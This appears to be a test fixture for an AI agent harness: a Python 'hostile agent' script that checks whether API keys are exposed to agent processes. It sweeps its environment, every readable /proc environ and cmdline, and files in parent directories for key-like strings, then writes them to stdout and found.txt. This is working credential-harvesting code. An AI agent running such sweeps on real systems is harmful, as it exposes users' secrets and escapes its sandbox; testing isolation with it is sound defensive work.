"""A hostile agent: it hunts for API keys wherever a process of the run might leave one
(its environment, every readable /proc/*/environ and cmdline, its parents' included, and
the files of the folders above its workspace), writes everything key-like it found to
stdout and to found.txt in its workspace, then makes one honest model call."""

from __future__ import annotations

import contextlib
import json
import os
import re
import urllib.request
from pathlib import Path

KEYLIKE = re.compile(rb"(sk-[A-Za-z0-9_\-]{8,}|[A-Za-z0-9_]*KEY[A-Za-z0-9_]*=[^\x00\n]{4,})")
found: set[str] = set()


def scan(data: bytes, where: str) -> None:
    for match in KEYLIKE.finditer(data):
        found.add(f"{where}: {match.group(0).decode('utf-8', 'replace')[:200]}")


for name, value in os.environ.items():
    scan(f"{name}={value}".encode(), "environ")
for entry in Path("/proc").iterdir():
    if entry.name.isdigit():
        for part in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                scan((entry / part).read_bytes(), f"/proc/{entry.name}/{part}")
here = Path.cwd()
for root in list(here.parents)[:4]:
    for directory, _, names in os.walk(root):
        if directory.count(os.sep) - str(root).count(os.sep) > 4:
            continue
        for name in names[:200]:
            path = Path(directory) / name
            with contextlib.suppress(OSError):
                if path.is_file() and path.stat().st_size < 1_000_000:
                    scan(path.read_bytes(), str(path))

report = "\n".join(sorted(found))
Path("found.txt").write_text(report)
print(report)
body = json.dumps({"model": "any", "messages": [{"role": "user", "content": "hi"}]}).encode()
request = urllib.request.Request(
    os.environ["OPENAI_BASE_URL"].rstrip("/") + "/chat/completions",
    data=body,
    headers={
        "content-type": "application/json",
        "authorization": f"Bearer {os.environ.get('OPENAI_API_KEY', '')}",
    },
)
with urllib.request.urlopen(request, timeout=30) as response:
    reply = json.loads(response.read())
print(reply["choices"][0]["message"]["content"])
